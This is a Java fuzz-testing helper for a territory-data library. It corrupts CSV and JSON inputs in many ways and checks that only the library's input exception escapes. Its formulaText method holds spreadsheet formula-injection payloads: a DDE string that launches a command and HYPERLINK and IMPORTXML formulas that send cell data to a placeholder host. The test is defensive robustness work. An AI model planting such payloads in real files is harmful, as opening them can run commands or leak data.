package io.github.desconcentra.territory;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicLong;
import java.util.Random;

/**
 * Breaks input files the ways real exports break (truncation, wrong delimiter, byte-order mark, invalid UTF-8, missing
 * or extra columns, wrong types, empty cells, negative or huge numbers, NaN, duplicate rows, deep nesting) and the
 * ways a hostile or careless user breaks them (numbers with huge or tiny exponents or hundreds of digits, whole
 * numbers written {@code 12.0}, formula-leading text, blank lines and quoted newlines that shift physical lines,
 * objects, arrays and booleans where a JSON scalar belongs), and checks that only the library's
 * {@link InputException} escapes, within a generous hang guard. Shared with the other modules through the test-jar.
 */
public final class Fuzz {
    private static final AtomicLong CASES = new AtomicLong();
    private static final String[] CELL_GARBAGE = {"", "-1", "-999999", "abc", "NaN", "Infinity", "1e309",
            "99999999999999999999999", "0.5.5", "Z99", "999999", "17D99C99", "\"", "1,5", " ", "x".repeat(20_000)};
    private static final String[] JSON_GARBAGE = {"null", "-5", "\"x\"", "[]", "{}", "1e999", "NaN", "true",
            "99999999999999999999999999", "\"\"", "0.1234567890123", "[[[[[[[[]]]]]]]]"};

    private Fuzz() {
    }

    /** A mutated file and what was done to it. */
    public record Mutant(byte[] bytes, String how) {
        @Override
        public String toString() {
            return how;
        }
    }

    /** The number of cases checked so far in this JVM. */
    public static long cases() {
        return CASES.get();
    }

    /** Prints the number of fuzz cases of a suite. */
    public static void report(String suite, long before) {
        System.out.println("fuzz cases: " + (CASES.get() - before) + " (" + suite + ")");
    }

    /** A hang guard only (not a performance assertion): no case should come near it. */
    private static final java.time.Duration HANG_GUARD = java.time.Duration.ofSeconds(60);

    /**
     * Runs {@code action}; anything it throws other than {@link InputException} fails the case, and so does a case
     * that has not finished within the hang guard.
     */
    public static void expectOnlyInputException(Mutant m, ThrowingRunnable action) {
        CASES.incrementAndGet();
        try {
            org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(HANG_GUARD, () -> {
                action.run();
                return null;
            }, () -> "hang guard passed for " + m);
        } catch (InputException e) {
            if (e.problems().isEmpty() || e.getMessage().isBlank()) {
                throw new AssertionError("empty InputException for " + m);
            }
        } catch (Throwable t) {
            throw new AssertionError("unexpected " + t + " for " + m, t);
        }
    }

    /** An action that may throw. */
    public interface ThrowingRunnable {
        void run() throws Exception;
    }

    private static int pick(Random in, int n) {
        return n <= 1 ? 0 : in.nextInt(n);
    }

    /** A mutant of a CSV file, chosen by {@code in}. */
    public static Mutant mutateCsv(byte[] original, Random in) {
        String text = new String(original, StandardCharsets.UTF_8);
        List<String> lines = new ArrayList<>(List.of(text.split("\n", -1)));
        int op = pick(in, 15);
        switch (op) {
            case 0 -> {
                int at = pick(in, original.length + 1);
                return new Mutant(java.util.Arrays.copyOf(original, at), "truncated at byte " + at);
            }
            case 1 -> {
                return new Mutant(text.replace(',', ';').getBytes(StandardCharsets.UTF_8), "delimiter ; instead of ,");
            }
            case 2 -> {
                byte[] b = new byte[original.length + 3];
                b[0] = (byte) 0xEF;
                b[1] = (byte) 0xBB;
                b[2] = (byte) 0xBF;
                System.arraycopy(original, 0, b, 3, original.length);
                return new Mutant(b, "byte-order mark");
            }
            case 3 -> {
                int at = pick(in, original.length + 1);
                byte[] b = new byte[original.length + 2];
                System.arraycopy(original, 0, b, 0, at);
                b[at] = (byte) 0xC3;
                b[at + 1] = (byte) 0x28;
                System.arraycopy(original, at, b, at + 2, original.length - at);
                return new Mutant(b, "invalid UTF-8 at byte " + at);
            }
            case 4 -> {
                String header = lines.get(0);
                int cut = header.lastIndexOf(',');
                lines.set(0, cut < 0 ? "" : header.substring(0, cut));
                return join(lines, "last column dropped from the header");
            }
            case 5 -> {
                lines.set(0, lines.get(0) + ",extra");
                return join(lines, "extra column in the header");
            }
            case 6 -> {
                int row = lines.size() < 2 ? 0 : 1 + pick(in, lines.size() - 1);
                String[] cells = lines.get(row).split(",", -1);
                int col = pick(in, cells.length);
                String garbage = CELL_GARBAGE[pick(in, CELL_GARBAGE.length)];
                cells[col] = garbage;
                lines.set(row, String.join(",", cells));
                return join(lines, "line " + (row + 1) + " cell " + col + " = \"" + abbreviate(garbage) + "\"");
            }
            case 7 -> {
                int row = lines.size() < 2 ? 0 : 1 + pick(in, lines.size() - 1);
                lines.add(row, lines.get(row));
                return join(lines, "line " + (row + 1) + " duplicated");
            }
            case 8 -> {
                int row = pick(in, lines.size());
                lines.remove(row);
                return join(lines, "line " + (row + 1) + " deleted");
            }
            case 9 -> {
                int a = pick(in, lines.size());
                int b = pick(in, lines.size());
                String t = lines.get(a);
                lines.set(a, lines.get(b));
                lines.set(b, t);
                return join(lines, "lines " + (a + 1) + " and " + (b + 1) + " swapped");
            }
            case 10 -> {
                String number = hostileNumber(in);
                return replaceCell(lines, in, number, "hostile number");
            }
            case 11 -> {
                String formula = formulaText(in);
                return replaceCell(lines, in, "\"" + formula.replace("\"", "\"\"") + "\"", "formula-leading text");
            }
            case 12 -> {
                int n = 1 + pick(in, 3);
                for (int i = 0; i < n; i++) {
                    lines.add(pick(in, lines.size() + 1), "");
                }
                return join(lines, n + " blank lines inserted");
            }
            case 13 -> {
                return replaceCell(lines, in, "\"first\nsecond" + (in.nextBoolean() ? "\r\n" : "\n") + "third\"",
                        "quoted newlines in a cell");
            }
            default -> {
                return flip(original, in);
            }
        }
    }

    private static Mutant replaceCell(List<String> lines, Random in, String cell, String what) {
        int row = lines.size() < 2 ? 0 : 1 + pick(in, lines.size() - 1);
        String[] cells = lines.get(row).split(",", -1);
        int col = pick(in, cells.length);
        cells[col] = cell;
        lines.set(row, String.join(",", cells));
        return join(lines, "line " + (row + 1) + " cell " + col + " = " + what + " " + abbreviate(cell));
    }

    /**
     * A number as a careless or hostile user writes it: huge or tiny exponents (beyond what BigDecimal can expand
     * cheaply, or beyond an int), hundreds of digits, a zero fraction on a whole number, signs, NaN and infinities,
     * hexadecimal and type suffixes.
     */
    public static String hostileNumber(Random in) {
        String sign = switch (pick(in, 4)) {
            case 0 -> "-";
            case 1 -> "+";
            default -> "";
        };
        return switch (pick(in, 9)) {
            case 0 -> sign + digits(in, 1 + pick(in, 3)) + "e" + (in.nextBoolean() ? "-" : "") + (1 + pick(in, 2))
                    + digits(in, 3 + pick(in, 8));
            case 1 -> sign + digits(in, 19 + pick(in, 120));
            case 2 -> sign + "0." + "0".repeat(pick(in, 60)) + digits(in, 1 + pick(in, 40));
            case 3 -> sign + digits(in, 1 + pick(in, 6)) + "." + "0".repeat(1 + pick(in, 3));
            case 4 -> sign + (in.nextBoolean() ? "NaN" : "Infinity");
            case 5 -> sign + "0x1p" + pick(in, 2000);
            case 6 -> sign + digits(in, 1 + pick(in, 4)) + (in.nextBoolean() ? "f" : "d");
            case 7 -> sign + "1e" + (in.nextBoolean() ? "-" : "") + "2147483" + digits(in, 3);
            default -> sign + digits(in, 1 + pick(in, 12)) + "." + digits(in, 1 + pick(in, 40));
        };
    }

    private static String digits(Random in, int n) {
        StringBuilder b = new StringBuilder(n);
        for (int i = 0; i < n; i++) {
            b.append((char) ('0' + (i == 0 ? 1 + pick(in, 9) : pick(in, 10))));
        }
        return b.toString();
    }

    /** Text beginning with a character that makes a spreadsheet run it (=, +, -, @, tab, carriage return). */
    public static String formulaText(Random in) {
        String lead = String.valueOf("=+-@\t\r".charAt(pick(in, 6)));
        String[] bodies = {"HYPERLINK(\"http://x.test/?\"&A1,\"clic\")", "cmd|' /C calc'!A0", "SUM(1+1)*2",
            "1+1", "2", "x, \"quoted\"", "IMPORTXML(CONCAT(\"http://x.test/\",A2),\"//a\")"};
        return lead + bodies[pick(in, bodies.length)];
    }

    /** A JSON value of the wrong kind for a scalar field: an object, an array, a boolean, or a number as a string. */
    public static String confusedJsonValue(Random in) {
        return switch (pick(in, 5)) {
            case 0 -> "{\"value\": " + pick(in, 100) + "}";
            case 1 -> "[" + pick(in, 1000) + "]";
            case 2 -> in.nextBoolean() ? "true" : "false";
            case 3 -> "\"" + pick(in, 1000) + "\"";
            default -> "[]";
        };
    }

    /** Writes a territory folder whose CSV files have their headers and nothing else (a careless export). */
    public static void headersOnlyTerritory(java.nio.file.Path dir) throws java.io.IOException {
        java.nio.file.Files.createDirectories(dir);
        java.nio.file.Files.writeString(dir.resolve("territory.csv"), "key,value\ncountry,EC\nname,X\n"
                + "census_year,2022\n");
        java.nio.file.Files.writeString(dir.resolve("parishes.csv"), "parish_code,parish_name,canton_code,"
                + "canton_name,province_code,province_name,kind,lat,lon,population_2022\n");
        java.nio.file.Files.writeString(dir.resolve("zones.csv"), "zone_code,zone_name\n");
        java.nio.file.Files.writeString(dir.resolve("districts.csv"), "district_code,district_name,zone_code\n");
        java.nio.file.Files.writeString(dir.resolve("circuits.csv"), "circuit_code,circuit_name,district_code,"
                + "parish_code\n");
    }

    /** Makes a named pipe (FIFO) at {@code path}; false where the system has no {@code mkfifo}. */
    public static boolean mkfifo(java.nio.file.Path path) throws InterruptedException {
        try {
            return new ProcessBuilder("mkfifo", path.toString()).start().waitFor() == 0;
        } catch (java.io.IOException e) {
            return false;
        }
    }

    /** A mutant of a JSON document, chosen by {@code in}. */
    public static Mutant mutateJson(byte[] original, Random in) {
        String text = new String(original, StandardCharsets.UTF_8);
        int op = pick(in, 8);
        switch (op) {
            case 0 -> {
                int at = pick(in, original.length + 1);
                return new Mutant(java.util.Arrays.copyOf(original, at), "truncated at byte " + at);
            }
            case 1, 2, 6, 7 -> {
                java.util.regex.Matcher m = java.util.regex.Pattern.compile(
                        "(?<=: )(\"[^\"]*\"|-?[0-9][0-9.eE+-]*|true|false|null)").matcher(text);
                List<int[]> spans = new ArrayList<>();
                while (m.find()) {
                    spans.add(new int[] {m.start(), m.end()});
                }
                if (spans.isEmpty()) {
                    return flip(original, in);
                }
                int[] s = spans.get(pick(in, spans.size()));
                String garbage = op == 6 ? jsonNumber(hostileNumber(in)) : op == 7 ? confusedJsonValue(in)
                        : JSON_GARBAGE[pick(in, JSON_GARBAGE.length)];
                return new Mutant((text.substring(0, s[0]) + garbage + text.substring(s[1]))
                        .getBytes(StandardCharsets.UTF_8), "value at " + s[0] + " = " + garbage);
            }
            case 3 -> {
                return new Mutant(("[".repeat(200) + text + "]".repeat(200)).getBytes(StandardCharsets.UTF_8),
                        "nested 200 deep");
            }
            case 4 -> {
                int at = pick(in, original.length + 1);
                byte[] b = new byte[original.length + 1];
                System.arraycopy(original, 0, b, 0, at);
                b[at] = (byte) 0xFF;
                System.arraycopy(original, at, b, at + 1, original.length - at);
                return new Mutant(b, "invalid UTF-8 at byte " + at);
            }
            default -> {
                return flip(original, in);
            }
        }
    }

    /** A hostile number as JSON allows it (no sign +, NaN, hex or suffix there: those become a JSON syntax error). */
    private static String jsonNumber(String n) {
        return n.startsWith("+") ? n.substring(1) : n;
    }

    private static Mutant flip(byte[] original, Random in) {
        if (original.length == 0) {
            return new Mutant(original, "empty");
        }
        byte[] b = original.clone();
        int at = pick(in, b.length);
        int bit = pick(in, 8);
        b[at] ^= (byte) (1 << bit);
        return new Mutant(b, "bit " + bit + " of byte " + at + " flipped");
    }

    private static Mutant join(List<String> lines, String how) {
        return new Mutant(String.join("\n", lines).getBytes(StandardCharsets.UTF_8), how);
    }

    private static String abbreviate(String s) {
        return s.length() > 20 ? s.substring(0, 20) + "...(" + s.length() + ")" : s;
    }
}
